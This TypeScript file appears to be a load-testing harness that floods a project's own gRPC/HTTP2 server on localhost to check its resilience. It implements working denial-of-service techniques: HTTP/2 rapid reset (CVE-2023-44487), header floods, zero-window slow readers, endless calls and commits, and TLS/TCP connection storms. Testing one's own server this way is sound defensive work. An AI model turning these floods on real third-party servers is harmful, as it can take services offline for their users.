/**
 * Somebody who wants a server to serve nobody else: a process of its own that floods until it is told to stop, as fast
 * as it gets its bytes out. Prints how much that was, and how much of it the server cut short.
 */
import { readFileSync } from 'node:fs';
import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2';
import { connect as connectTcp } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import { parseArgs } from 'node:util';
import {
  CallHeaders,
  headersFrames,
  plainField,
  PREFACE,
  resetFrame,
} from '@pact-journal/boot-stream/testing';
import { journal } from '@pact-journal/journal-proto';
import { encodeAppend, benchEntry, JOURNAL_APPEND_PATH } from '../commit/entry.ts';
import { grpcFrame } from '../commit/h2load.ts';
import { BOOT_PATH, BOOT_REQUEST, NODE_ID } from '../secured/wire-client.ts';

const { values } = parseArgs({
  options: {
    kind: { type: 'string' },
    address: { type: 'string' },
    from: { type: 'string' },
    ca: { type: 'string' },
  },
});
const { kind = '', address = '', ca: caPath = '', from: localAddress = '' } = values;
const token = process.env['FLOODER_TOKEN'] ?? '';
const [servername = '', port = ''] = address.split(':');
/** Of its own, so that one flood does not pay for another. */
const way = { host: '127.0.0.1', port: Number(port), localAddress };
const tls = { ...way, servername, ca: readFileSync(caPath), ALPNProtocols: ['h2'] };
const RETRY_MS = 1;
/** How long somebody waits for a server's answer, and somebody to whom it does not matter. */
const [PATIENCE_MS, IMPATIENCE_MS] = [20_000, 20];

/** What it got done, for whoever wants to know whether it was a flood. */
const counts: Record<string, number> = {};
const startedMs = performance.now();

function count(what: string, by = 1): void {
  counts[what] = (counts[what] ?? 0) + by;
}

/** A TLS connection that speaks frames, and another one as soon as it is gone. `next`: what to send now. */
function keepSending(nextOf: () => () => Buffer): void {
  const next = nextOf();
  const socket: TLSSocket = connectTls(tls, () => {
    count('connections');
    socket.write(PREFACE);
    send();
  });
  const send = (): void => {
    if (socket.destroyed) return;
    if (socket.write(next())) setImmediate(send);
    else socket.once('drain', send);
  };
  socket.on('error', () => count('cut or refused')).resume();
  socket.once('close', () => setTimeout(keepSending, RETRY_MS, nextOf));
}

/** Opens streams and resets them in the same breath (CVE-2023-44487). */
function rapidReset(): () => Buffer {
  const headers = new CallHeaders(address, BOOT_PATH, token);
  let streamId = -1;
  return () => {
    const frames: Buffer[] = [];
    for (let each = 0; each < 100; each += 1) {
      streamId += 2;
      const block = streamId === 1 ? headers.first : headers.again;
      frames.push(headersFrames(streamId, block), resetFrame(streamId));
    }
    count('resets', 100);
    return Buffer.concat(frames);
  };
}

/** Calls with 60 KB of headers, and such with a thousand small ones. */
function headerFlood(): () => Buffer {
  const headers = new CallHeaders(address, BOOT_PATH, token);
  const fields = (number: number, size: number): Buffer =>
    Buffer.concat(Array.from({ length: number }, (_, at) => plainField(`x-${String(at)}`, 'y'.repeat(size))));
  const tails = [fields(60, 1_000), fields(1_000, 1)] as const;
  let streamId = -1;
  return () => {
    streamId += 2;
    count('large headers');
    const block = streamId === 1 ? headers.first : headers.again;
    return headersFrames(streamId, Buffer.concat([block, tails[streamId % 4 === 1 ? 0 : 1]]));
  };
}

/** An HTTP/2 connection, and another one as soon as it is gone. */
function keepConnected(settings: object, onOpen: (session: ClientHttp2Session) => void): void {
  const session = connectHttp2(`https://${address}`, { createConnection: () => connectTls(tls), settings });
  session.on('error', () => count('cut or refused'));
  session.once('remoteSettings', () => {
    count('connections');
    onOpen(session);
  });
  session.once('close', () => setTimeout(keepConnected, RETRY_MS, settings, onOpen));
}

/** One call of an open connection; `onEnd` once it is over. */
function call(session: ClientHttp2Session, path: string, body: Buffer, onEnd: () => void): void {
  if (session.closed || session.destroyed) return;
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    authorization: `Bearer ${token}`,
  });
  stream.on('error', () => undefined).once('close', onEnd);
  count('calls');
  stream.end(body);
  if (path !== BOOT_PATH) stream.resume();
}

/** Asks for boots, takes not one byte of their overlays, and asks again when it is cut off. */
function readNothing(session: ClientHttp2Session): void {
  const ask = (): void => call(session, BOOT_PATH, BOOT_REQUEST, ask);
  for (let each = 0; each < 100; each += 1) ask();
}

/** As many calls at once as it may, for ever. */
function callWithoutEnd(session: ClientHttp2Session): void {
  const { path, requestSerialize } = journal.ConfigServiceDefinition.getNodeState;
  const body = grpcFrame(requestSerialize({ nodeId: NODE_ID }));
  const ask = (): void => call(session, path, body, ask);
  for (let each = 0; each < 1_000; each += 1) ask();
}

/** The same with commits. */
function commitWithoutEnd(session: ClientHttp2Session): void {
  const body = grpcFrame(encodeAppend(benchEntry()));
  const ask = (): void => call(session, JOURNAL_APPEND_PATH, body, ask);
  for (let each = 0; each < 1_000; each += 1) ask();
}

/** Shakes hands and leaves, at once again; waits for it no longer than `patienceMs`. */
function shakeAndLeave(patienceMs: number): void {
  const socket = connectTls(tls);
  const timer = setTimeout(() => {
    count('given up');
    socket.destroy();
  }, patienceMs);
  socket.once('secureConnect', () => {
    count('handshakes');
    socket.destroy();
  });
  socket.once('error', () => count('cut or refused'));
  socket.once('close', () => {
    clearTimeout(timer);
    setImmediate(shakeAndLeave, patienceMs);
  });
}

/** Connects and never says a word; leaves after `patienceMs` to come again. */
function saysNothing(patienceMs: number): void {
  const socket = connectTcp(way, () => count('silent'));
  const timer = setTimeout(() => {
    count('given up');
    socket.resetAndDestroy();
  }, patienceMs);
  socket.once('error', () => count('cut or refused')).resume();
  socket.once('close', () => {
    clearTimeout(timer);
    setTimeout(saysNothing, RETRY_MS, patienceMs);
  });
}

function times(number: number, start: () => void): void {
  for (let each = 0; each < number; each += 1) start();
}

switch (kind) {
  case 'rapid reset':
    times(4, () => keepSending(rapidReset));
    break;
  case 'slow readers':
    times(100, () => keepConnected({ initialWindowSize: 0 }, readNothing));
    break;
  case 'connection storm':
    times(64, () => shakeAndLeave(PATIENCE_MS));
    times(64, () => saysNothing(PATIENCE_MS));
    break;
  case 'impatient storm':
    times(64, () => shakeAndLeave(IMPATIENCE_MS));
    times(64, () => saysNothing(IMPATIENCE_MS));
    break;
  case 'header flood':
    times(4, () => keepSending(headerFlood));
    break;
  case 'calls':
    times(10, () => keepConnected({}, callWithoutEnd));
    break;
  case 'commits':
    times(10, () => keepConnected({}, commitWithoutEnd));
    break;
  default:
    throw new Error(`there is no flood ${kind}`);
}
process.stdout.write('begun\n');
process.on('SIGTERM', () => {
  const seconds = (performance.now() - startedMs) / 1_000;
  const perSecond = Object.fromEntries(
    Object.entries(counts).map(([what, number]) => [what, Math.round(number / seconds)]),
  );
  process.stdout.write(`${JSON.stringify(perSecond)}\n`, () => process.exit(0));
});
